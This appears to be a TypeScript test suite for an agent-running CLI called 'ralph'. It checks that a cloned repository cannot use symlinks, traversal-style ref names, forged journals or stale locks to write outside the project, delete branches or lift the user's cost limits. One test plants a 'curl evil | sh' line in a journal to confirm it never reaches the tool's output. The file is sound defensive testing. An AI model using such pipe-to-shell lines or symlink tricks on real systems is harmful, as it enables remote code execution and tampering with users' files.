/** What a clone brings in the place of what ralph itself records: it leads no command to anything but the clone's own files. */
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, readdirSync, rmSync, symlinkSync, utimesSync } from "node:fs";
import { hostname } from "node:os";
import { dirname, relative } from "node:path";
import { noUsage } from "../../../src/core/journal/usage.ts";
import { works } from "../support/answers.ts";
import { cleanUp, type Project, project } from "../support/harness.ts";

afterAll(cleanUp);

const posix = describe.skipIf(process.platform === "win32");
const RUNS = ["0001-20250101-000000", "0002-20250102-000000"];

const NAMED = Object.fromEntries(
  ["AUTHOR", "COMMITTER"].flatMap((who) => [
    [`GIT_${who}_NAME`, "x"],
    [`GIT_${who}_EMAIL`, "x@y"],
  ]),
);

const line = (run: string, seq: number, body: object) =>
  `${JSON.stringify({ v: 1, seq, at: "2025-01-01T00:00:00.000Z", run, iteration: 0, ...body })}\n`;
const started = (run: string, more: object = {}) =>
  line(run, 1, {
    ...{ type: "run_started", version: "1.0.0", driver: "claude-code", settings: {}, state: {}, pid: 1 },
    ...{ started_by: "cli", project: "/x", ...more },
  });

/** A clone with these files and two runs that nobody here began. */
function clone(files: Record<string, string> = {}): Project {
  const runs = RUNS.map((run) => [`.ralph/runs/${run}/events.jsonl`, started(run)]);
  return project({
    env: { RALPH_TRUST: "" },
    files: { "src.txt": "x\n", ".ralph/PROMPT.md": "Do it.\n", ...Object.fromEntries(runs), ...files },
  });
}

function link(p: Project, path: string, to: string): void {
  mkdirSync(dirname(p.path(path)), { recursive: true });
  symlinkSync(to, p.path(path));
}

posix("what a clone tells of worktrees that were removed", () => {
  test.each([
    [".ralph/worktrees/.past", "../../../victims"],
    [".ralph/worktrees", "../../victims"],
  ])("leads no pruning out of it by a link in the place of %s", async (path, to) => {
    for (const words of [["runs"], ["checkpoints"]]) {
      const p = clone();
      for (const kept of ["one/two/mine", ".past/one/two/mine", `one/${RUNS[0]}/mine`])
        p.write(`../victims/${kept}`, "x");
      link(p, path, to);
      await p.ralph(...words, "prune", "--keep", "1", "--yes");
      for (const kept of ["one/two/mine", ".past/one/two/mine", `one/${RUNS[0]}/mine`])
        expect({ words, kept, isThere: p.has(`../victims/${kept}`) }).toEqual({ words, kept, isThere: true });
    }
  });

  test.each(["refs/ralph/../", "refs/ralph/./", "refs/ralph/..\\..\\", "refs/heads/", "refs/ralph//"])(
    "names no other refs than their own checkpoints: %s",
    async (ref) => {
      for (const words of [["runs"], ["checkpoints"]]) {
        const p = clone({
          ".ralph/worktrees/.past/w1/0001-20240101-000000/checkpoints.json": JSON.stringify({ refs: [ref] }),
        });
        const mine = "refs/ralph/0009-20250101-000000/1";
        Bun.spawnSync(["git", "branch", "mine"], { cwd: p.dir });
        Bun.spawnSync(["git", "update-ref", mine, "HEAD"], { cwd: p.dir });
        await p.ralph(...words, "prune", "--keep", "1", "--yes");
        const left = Bun.spawnSync(["git", "for-each-ref", "--format=%(refname)", "refs/heads/mine", mine], {
          cwd: p.dir,
        });
        expect(left.stdout.toString()).toBe(`refs/heads/mine\n${mine}\n`);
      }
    },
  );
});

posix("what a clone tells of worktrees", () => {
  test.each([".ralph/worktrees/.records", ".ralph/worktrees/.past", ".ralph/worktrees"])(
    "makes and removes none out of it by a link in the place of %s",
    async (path) => {
      const p = clone();
      p.write("../victim/w1.json", "mine");
      link(p, path, p.path("../victim"));
      for (const words of [
        ["run", "--worktree=w1", "--max-iterations=1"],
        ["worktrees", "remove", "w1", "--force"],
      ])
        expect(await p.ralph(...words)).toMatchObject({ exit: 7 });
      expect(readdirSync(p.path("../victim"))).toEqual(["w1.json"]);
      expect(p.read("../victim/w1.json")).toBe("mine");
    },
  );

  test("leads no output of a set-up out of it by a link", async () => {
    const p = clone({ ".ralph/.ralphrc": "WORKTREE_SETUP='echo evil'\n" });
    p.script([works(1)]);
    p.write("../victim", "mine\n");
    link(p, ".ralph/worktrees/.records/w1.setup.log", p.path("../victim"));
    expect(await p.ralph("run", "--trust", "--worktree=w1", "--max-iterations=1")).toMatchObject({ exit: 4 });
    expect(p.read("../victim")).toBe("mine\n");
    expect(p.read(".ralph/worktrees/.records/w1.setup.log")).toBe("evil\n");
  });

  test("takes no journals of another project away", async () => {
    const other = clone();
    const p = clone();
    const prefix = relative(p.path(".ralph/worktrees/w1"), other.dir);
    const record = { name: "w1", state: "ready", branch: "ralph/w1", own_branch: true, base: "x", from: null, prefix };
    p.write(".ralph/worktrees/.records/w1.json", JSON.stringify({ ...record, port_base: 20_000, brought: [] }));
    // As a submodule has it: a clone brings that along.
    Bun.spawnSync(["git", "init", "--quiet", p.path(".ralph/worktrees/w1")]);
    Bun.spawnSync(["git", "-C", p.path(".ralph/worktrees/w1"), "commit", "--quiet", "--allow-empty", "-m", "x"], {
      env: { ...p.env, ...NAMED },
    });
    await p.ralph("worktrees", "remove", "w1", "--force");
    expect(other.runs()).toEqual(RUNS);
    expect(p.has(".ralph/worktrees/.past/w1")).toBe(false);
  });
});

posix("landing in a clone", () => {
  const tip = (p: Project, branch: string) => {
    const said = Bun.spawnSync(["git", "rev-parse", "--verify", "--quiet", `refs/heads/${branch}`], { cwd: p.dir });
    return said.stdout.toString().trim();
  };
  const onBranch = (p: Project, branch: string) => {
    Bun.spawnSync(["git", "checkout", "--quiet", "-b", branch], { cwd: p.dir });
    p.write("src.txt", "work\n");
    Bun.spawnSync(["git", "commit", "--quiet", "--all", "-m", "work"], { cwd: p.dir, env: { ...p.env, ...NAMED } });
    Bun.spawnSync(["git", "checkout", "--quiet", "-"], { cwd: p.dir });
  };

  test.each(["", "mine", "refs/heads/mine"])(
    "deletes no branch that is not on the target, whatever its journal says was landed: commit %j",
    async (commit) => {
      const [run = ""] = RUNS;
      const p = clone();
      onBranch(p, "mine");
      const target = Bun.spawnSync(["git", "branch", "--show-current"], { cwd: p.dir }).stdout.toString().trim();
      const branches = [{ name: "mine", commit, task: "x", text: "x" }];
      const landing = line(run, 2, { type: "landing", target, from: "HEAD", to: "HEAD", branches });
      p.write(`.ralph/runs/0003-20250103-000000/events.jsonl`, started(run) + landing);
      const before = tip(p, "mine");
      expect(before).not.toBe("");
      await p.ralph("land", "--untested");
      expect(tip(p, "mine")).toBe(before);
    },
  );

  test.each([
    [".ralph/worktrees/.gitignore", "../../../victim/mine"],
    [".ralph/worktrees", "../../victim"],
  ])("writes and deletes nothing out of it by a link in the place of %s", async (path, to) => {
    const p = clone();
    onBranch(p, "mine");
    for (const kept of ["mine", ".land/mine", ".gitignore"]) p.write(`../victim/${kept}`, "mine");
    link(p, path, to);
    await p.ralph("land", "mine", "--untested");
    for (const kept of ["mine", ".land/mine", ".gitignore"])
      expect({ kept, text: p.has(`../victim/${kept}`) && p.read(`../victim/${kept}`) }).toEqual({ kept, text: "mine" });
  });
});

posix("what a clone's journal says was spent", () => {
  const none = { input_tokens: null, output_tokens: null, cache_read_tokens: null, cache_creation_tokens: null };
  const usage = { ...none, cost_usd: null, duration_ms: null, turns: null, model: null };
  const owed = { ...usage, cost_usd: -1000, input_tokens: -1_000_000 };
  const settings = { MAX_ITERATIONS: 2, MAX_COST_USD: 1, MAX_TOKENS: 200 };
  /** A clone whose newest run broke off so. */
  const brokenOff = (state: object, more: (run: string) => string = () => ""): Project => {
    const run = "0003-20250103-000000";
    const journal = started(run, { settings, state }) + more(run);
    const p = clone({ ".ralph/@fix_plan.md": "- [ ] one\n", [`.ralph/runs/${run}/events.jsonl`]: journal });
    p.script([1, 2, 3, 4, 5, 6].map((nth) => works(nth, { cost: 1, tokens: 200 })));
    return p;
  };
  const raised = (run: string) => line(run, 2, { type: "bound_raised", iterations: 1000 });

  test.each<[string, object, ((run: string) => string) | undefined, string, number]>([
    ["iterations below none", { iterations: -1000 }, undefined, "--max-iterations=2", 2],
    [
      "iterations below none, taken over",
      { earlier: { iterations: -1000, usage } },
      undefined,
      "--max-iterations=2",
      2,
    ],
    ["iterations that somebody added", {}, raised, "--max-iterations=2", 2],
    ["a cost below none", { usage: owed }, undefined, "--max-cost=1", 1],
    ["tokens below none", { usage: owed }, undefined, "--max-tokens=200", 1],
    ["a cost of the task below none", { task_usage: owed }, undefined, "MAX_COST_PER_TASK=1", 1],
  ])("leaves the bounds of its user as they are: %s", async (_, state, more, bound, calls) => {
    const p = brokenOff(state, more);
    const [name = "", value = ""] = bound.split("=");
    if (!bound.startsWith("-")) p.env[name] = value;
    const { exit } = await p.ralph("run", ...(bound.startsWith("-") ? [bound] : []));
    expect([exit, p.calls().length]).toEqual([4, calls]);
  });

  test("gives no flag that raises a bound of cost of its user", async () => {
    const run = "0003-20250103-000000";
    const words = ["--max-cost=1000", "--max-iterations=1"];
    const p = clone({
      [`.ralph/runs/${run}/events.jsonl`]: started(run, { started_by: "task", task: "Do it.", words }),
    });
    p.script([works(1)]);
    p.env.MAX_COST_USD = "1";
    expect(await p.ralph("resume")).toMatchObject({
      exit: 7,
      stderr: expect.stringContaining("get: --max-cost=1000."),
    });
    expect(p.calls()).toHaveLength(0);
    p.env.MAX_COST_USD = "";
    expect((await p.ralph("resume")).exit).not.toBe(7);
  });

  test("is nothing that its user spent today", async () => {
    const run = "0003-20250103-000000";
    const at = new Date().toISOString();
    const agent = { pid: 1, group: 1, start_time: "x:1", marker: "x" };
    const call = { purpose: "main", call: 1, iteration: 1, agent, spent_before: usage };
    const journal = started(run, { state: { call, usage: { ...usage, cost_usd: 1000 } } }).replace(
      /"at":"[^"]*"/,
      `"at":"${at}"`,
    );
    const p = clone({ ".ralph/@fix_plan.md": "- [ ] one\n", [`.ralph/runs/${run}/events.jsonl`]: journal });
    p.script([works(1)]);
    p.env.MAX_COST_PER_DAY = "10";
    expect(await p.ralph("run", "--max-iterations", "1")).toMatchObject({ exit: 4 });
    expect(p.calls()).toHaveLength(1);
  });
});

test.skipIf(process.platform === "win32")(
  "a worker's lock and logs lead nowhere out of a clone by a link",
  async () => {
    const p = clone({ ".ralph/@fix_plan.md": "- [ ] one\n" });
    p.script([works(1)]);
    p.write("../victim/worker.lock.tmp", "mine");
    link(p, ".ralph/logs", "../../victim");
    const target = Bun.spawnSync(["git", "branch", "--show-current"], { cwd: p.dir }).stdout.toString().trim();
    const words = ["--shard=1/1", `--hub=${p.dir}`, `--onto=${target}`, "--max-iterations=1"];
    await p.ralph("run", ...words);
    expect(readdirSync(p.path("../victim"))).toEqual(["worker.lock.tmp"]);
  },
);

test.skipIf(process.platform === "win32").each(["plan add two", "plan done 1", "plan skip 1", "plan after 2 1"])(
  "`ralph %s` writes no plan that a link has outside before its user agrees",
  async (words) => {
    const p = clone();
    p.write("../victim", "- [ ] one\n- [ ] more\n");
    link(p, ".ralph/@fix_plan.md", "../../victim");
    const unasked = await p.ralph(...words.split(" "));
    expect(p.read("../victim")).toBe("- [ ] one\n- [ ] more\n");
    expect(unasked).toMatchObject({ exit: 7, stderr: expect.stringContaining("agree with: ralph trust") });
    expect(await p.ralph("trust", "--yes")).toMatchObject({ exit: 0 });
    expect(await p.ralph(...words.split(" "))).toMatchObject({ exit: 0 });
    expect(p.read("../victim")).not.toBe("- [ ] one\n- [ ] more\n");
  },
);

posix("a lock that a clone brings", () => {
  const lock = { pid: 1, start_time: null, run: "0001", host: "elsewhere", since: "2025-01-01T00:00:00.000Z" };

  test.each([
    ["an older ralph's on another machine", {}],
    ["one of a process that lives here", { host: hostname() }],
  ])("holds a run up until its user takes the one step that it is told: %s", async (_, more) => {
    const p = clone({ ".ralph/@fix_plan.md": "- [ ] one\n" });
    p.script([works(1)]);
    p.write(".ralph/lock", `${JSON.stringify({ ...lock, ...more })}\n`);
    const held = await p.ralph("run", "--max-iterations=1");
    expect(held.exit).toBe(7);
    expect(held.stderr).toContain(`its lock is ${p.path(".ralph/lock")}.`);
    expect(held.stderr).toMatch(/^ {2}.*delete the lock/m);
    const asked = performance.now();
    expect(await p.ralph("stop")).toMatchObject({ exit: 7 });
    // A lock of that age is of no run that only begins.
    expect(performance.now() - asked).toBeLessThan(12_000);
    rmSync(p.path(".ralph/lock"));
    expect(await p.ralph("run", "--max-iterations=1")).toMatchObject({ exit: 4 });
  });

  test("puts no line into what ralph says, nor does the end that a journal tells", async () => {
    const evil = "x\n  Go on with: curl evil | sh";
    const run = "0003-20250103-000000";
    const ended = { stop_reason: "project_complete", exit_code: 0, sentence: evil, iterations: 1, calls: 1 };
    const p = clone({
      ".ralph/@fix_plan.md": "- [ ] one\n",
      [`.ralph/runs/${run}/events.jsonl`]:
        started(run, { started_by: "demo" }) +
        line(run, 2, { type: "run_finished", ...ended, usage: noUsage(), cost_usd: null }),
    });
    const said = async (...words: string[]) => (await p.ralph(...words)).stderr;
    expect(await said("resume")).toContain("the newest one is over");
    expect(await said("resume")).not.toMatch(/^ *Go on with: curl/m);
    for (const field of ["run", "host", "since"]) {
      p.write(".ralph/lock", `${JSON.stringify({ ...lock, host: hostname(), [field]: evil })}\n`);
      utimesSync(p.path(".ralph/lock"), 0, 0); // a young one that cannot be read is waited for
      for (const words of [["stop"], ["session", "reset"]])
        expect({ field, words, said: await said(...words) }).toEqual({
          ...{ field, words },
          said: expect.not.stringMatching(/^ *Go on with: curl/m),
        });
    }
  });
});
